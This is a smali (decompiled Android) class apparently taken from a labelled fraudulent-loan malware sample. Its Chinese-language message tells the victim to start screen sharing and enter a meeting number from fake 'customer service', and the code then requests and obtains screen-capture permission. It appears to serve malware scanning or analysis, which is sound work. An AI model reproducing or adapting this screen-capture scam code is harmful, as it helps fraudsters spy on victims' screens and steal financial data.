.class public Lorg/apkscan/sample/fraudloan/screen/ScreenShareActivity;
.super Landroid/app/Activity;
.source "ScreenShareActivity.java"

# "Customer service" asks the victim to share the screen and give a meeting number.
.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    const-string v0, "请开启屏幕共享，并输入客服提供的会议号"
    const/4 v1, 0x1
    invoke-static {p0, v0, v1}, Landroid/widget/Toast;->makeText(Landroid/content/Context;Ljava/lang/CharSequence;I)Landroid/widget/Toast;
    move-result-object v0
    invoke-virtual {v0}, Landroid/widget/Toast;->show()V
    const-string v0, "media_projection"
    invoke-virtual {p0, v0}, Lorg/apkscan/sample/fraudloan/screen/ScreenShareActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/media/projection/MediaProjectionManager;
    invoke-virtual {v0}, Landroid/media/projection/MediaProjectionManager;->createScreenCaptureIntent()Landroid/content/Intent;
    move-result-object v0
    const/16 v1, 0x3e9
    invoke-virtual {p0, v0, v1}, Lorg/apkscan/sample/fraudloan/screen/ScreenShareActivity;->startActivityForResult(Landroid/content/Intent;I)V
    return-void
.end method

.method protected onActivityResult(IILandroid/content/Intent;)V
    .registers 6
    const-string v0, "media_projection"
    invoke-virtual {p0, v0}, Lorg/apkscan/sample/fraudloan/screen/ScreenShareActivity;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0
    check-cast v0, Landroid/media/projection/MediaProjectionManager;
    invoke-virtual {v0, p2, p3}, Landroid/media/projection/MediaProjectionManager;->getMediaProjection(ILandroid/content/Intent;)Landroid/media/projection/MediaProjection;
    return-void
.end method
